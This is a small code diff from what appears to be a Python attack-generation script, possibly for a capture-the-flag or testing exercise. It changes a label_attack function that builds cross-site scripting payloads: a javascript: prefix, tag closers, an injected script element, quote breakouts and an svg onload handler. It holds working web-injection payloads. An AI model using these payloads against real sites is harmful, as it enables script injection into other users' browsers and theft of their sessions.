@@ -56,7 +56,7 @@ def attack(n: int, text: str) -> str:
 def label_attack(n: int, text: str) -> str:
     """Every catalogue label is overridden, and a parameters file must stay under 64 KB: one script,
     one breakout of either quote, the title/style closers and the javascript: prefix per label."""
-    return f"javascript:alert({n})//{text[:16]}</title></style><script>{js(n)}</script>\"'><svg onload={js(n)}>"
+    return f"javascript:alert({n})//{text if '{' in text else text[:16]}</title></style><script>{js(n)}</script>\"'><svg onload={js(n)}>"
 
 
 def team_attack(n: int, text: str, i: int) -> str:
